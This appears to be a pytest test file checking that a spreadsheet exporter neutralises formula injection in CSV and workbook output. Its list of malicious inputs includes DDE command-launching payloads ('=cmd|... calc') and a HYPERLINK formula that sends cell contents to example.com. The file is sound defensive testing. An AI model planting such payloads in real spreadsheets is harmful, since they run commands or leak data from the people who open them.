"""Cells: what others chose the text of is text in a spreadsheet, wherever a table is written."""

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

import overlanded
from overlanded.exporters import cells, inspection_sheet

SOURCES = Path(overlanded.__file__).parent
EVIL = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://example.com/?"&A1,"router")',
    "+K2",
    "-X1:3",
]
PLAIN = ["PLC-1", "10.0.0.9", "00:1e:42:3a:bc:01", "a=b", "", "岸桥 01", "'=1+1", "2017-08-15"]


def apart(text):
    return f"'{text}".replace("\r", " ")


@pytest.mark.parametrize("text", EVIL)
def test_what_could_be_a_formula_begins_with_an_apostrophe(text):
    assert cells.cell(text) == apart(text)


def test_a_carriage_return_ends_no_row():
    text = cells.delimited(["name"], [["router\r=1+1"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["name"], ["router =1+1"]]


@pytest.mark.parametrize("value", [*PLAIN, None, -70, 3.5, -0.5, True])
def test_everything_else_stays_as_it_is(value):
    assert cells.cell(value) == value


def test_headings_and_rows_are_both_neutralised():
    text = cells.delimited(["=name", "n"], [[name, -1] for name in EVIL])
    names, *rows = csv.reader(io.StringIO(text, newline=""))
    assert names == ["'=name", "n"]
    assert [row[0] for row in rows] == [apart(name) for name in EVIL]
    assert {row[1] for row in rows} == {"-1"}


def test_the_empty_inspection_sheet_holds_no_formula():
    book = zipfile.ZipFile(io.BytesIO(inspection_sheet.workbook()))
    sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2
    assert not any(b"<f>" in book.read(name) or b"<f " in book.read(name) for name in sheets)


WRITES = re.compile(
    r"csv\.(?:Dict)?[Ww]riter|\.to_csv|page\.write\(|write_(?:row|column|formula)\("
)
"""Ways to write a cell that are not neutralised by themselves."""


def test_no_other_module_writes_cells():
    found = {
        str(path.relative_to(SOURCES))
        for path in SOURCES.rglob("*.py")
        if WRITES.search(path.read_text("utf-8"))
    }
    assert found == {"exporters/cells.py"}
